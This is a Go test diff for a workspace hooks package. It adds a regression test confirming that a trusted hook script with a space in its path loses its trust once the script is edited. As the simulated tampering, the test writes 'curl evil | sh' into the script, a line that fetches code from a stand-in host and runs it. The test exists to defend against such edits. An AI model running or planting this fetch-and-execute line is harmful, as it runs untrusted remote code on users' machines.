@@ -1,6 +1,7 @@
 package hooks
 
 import (
+	"encoding/json"
 	"os"
 	"path/filepath"
 	"testing"
@@ -49,5 +50,33 @@ func TestTrustCoversWhatATrustedHookSourcesOrCdsInto(t *testing.T) {
 				t.Errorf("editing %s kept the trust of %q (%v)", c.changed, c.command, err)
 			}
 		})
+	}
+}
+
+// TestAQuotedPathWithASpaceAsksForTrustAgainAfterAnEdit is the regression
+// test for commands split on spaces by hand: a hook that runs
+// "tools/my hook.sh" kept its trust after the script was edited.
+func TestAQuotedPathWithASpaceAsksForTrustAgainAfterAnEdit(t *testing.T) {
+	for _, command := range []string{`bash "tools/my hook.sh"`, `sh tools/my\ hook.sh`, `'./tools/my hook.sh' --fast`} {
+		ws := t.TempDir()
+		os.MkdirAll(filepath.Join(ws, ".tally"), 0o755)
+		os.MkdirAll(filepath.Join(ws, "tools"), 0o755)
+		script := filepath.Join(ws, "tools", "my hook.sh")
+		os.WriteFile(script, []byte("#!/bin/sh\nexit 0\n"), 0o755)
+		cfg, _ := json.Marshal(map[string]any{"hooks": map[string]any{"Stop": []any{map[string]any{"hooks": []any{map[string]any{"type": "command", "command": command}}}}}})
+		os.WriteFile(WorkspacePath(ws), cfg, 0o644)
+		_, wf, _, err := LoadWorkspace(ws, nil)
+		if err != nil || !wf.NeedsTrust {
+			t.Fatalf("%s: %+v, %v", command, wf, err)
+		}
+		trusted := wf.Hash
+		isTrusted := func(h string) bool { return h == trusted }
+		if hooks, wf, _, err := LoadWorkspace(ws, isTrusted); err != nil || wf.NeedsTrust || len(hooks) != 1 {
+			t.Fatalf("%s: trusted file not loaded: %+v, %v", command, wf, err)
+		}
+		os.WriteFile(script, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
+		if hooks, wf, _, err := LoadWorkspace(ws, isTrusted); err != nil || !wf.NeedsTrust || len(hooks) != 0 {
+			t.Errorf("%s: the edited script kept its trust: %d hooks, %+v, %v", command, len(hooks), wf, err)
+		}
 	}
 }
